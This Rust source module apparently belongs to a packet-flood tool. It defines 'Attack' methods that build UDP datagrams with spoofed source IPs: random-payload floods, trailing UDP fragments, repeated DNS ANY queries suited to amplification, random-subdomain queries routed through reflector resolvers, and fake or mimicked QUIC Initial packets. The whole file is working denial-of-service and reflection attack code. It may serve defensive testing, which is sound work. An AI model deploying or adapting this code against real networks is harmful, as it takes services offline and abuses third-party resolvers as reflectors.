//! Datagrams.

use rand::RngExt;

use super::{Attack, Kind, MTU};
use crate::{amplification::random, frame, quic};

impl Attack {
    pub(super) fn random_datagram(&mut self, frame: &mut Vec<u8>) {
        let length = self.rng.random_range(16..=600);
        self.payload.clear();
        random(&mut self.payload, length, &mut self.rng);
        self.datagram(frame);
    }

    pub(super) fn constant_datagram(&mut self, frame: &mut Vec<u8>) {
        self.payload.clone_from(&self.tool.payload);
        self.datagram(frame);
    }

    pub(super) fn later_udp_fragment(&mut self, frame: &mut Vec<u8>) {
        self.payload.clear();
        random(&mut self.payload, 2_000, &mut self.rng);
        self.datagram(frame);
        *frame = frame::fragments(frame, MTU).pop().unwrap_or_default();
    }

    /// One name again and again, all its records.
    pub(super) fn dns_query(&mut self, frame: &mut Vec<u8>) {
        let id: [u8; 2] = self.rng.random();
        self.query(id, b"\x07example\x03com\x00\x00\xff\x00\x01");
        self.datagram(frame);
    }

    /// A name that nobody has asked for, by way of resolvers, which keep their own time to live.
    pub(super) fn random_name(&mut self, frame: &mut Vec<u8>) {
        let id: [u8; 2] = self.rng.random();
        let mut question = vec![12];
        question.extend((0..12).map(|_| self.rng.random_range(b'a'..=b'z')));
        question.extend(b"\x07example\x03net\x00\x00\x01\x00\x01");
        self.query(id, &question);
        let ip = self.reflector_ip();
        let ports = self.random_ports();
        frame::udp(frame, self.aim.link, ip, ports, &self.payload);
    }

    fn query(&mut self, id: [u8; 2], question: &[u8]) {
        self.payload.clear();
        self.payload.extend(id);
        // A standard query, recursion desired, one question (RFC 1035 section 4.1.1).
        self.payload.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
        self.payload.extend(question);
    }

    pub(super) fn quic_initial(&mut self, frame: &mut Vec<u8>) {
        let is_mimic = self.aim.kind == Kind::QuicMimic;
        self.payload = if is_mimic { quic::initial(&mut self.rng) } else { quic::noise(&mut self.rng) };
        self.datagram(frame);
    }

    fn datagram(&mut self, frame: &mut Vec<u8>) {
        let ip = self.spoofed();
        let ports = self.random_ports();
        frame::udp(frame, self.aim.link, ip, ports, &self.payload);
    }
}
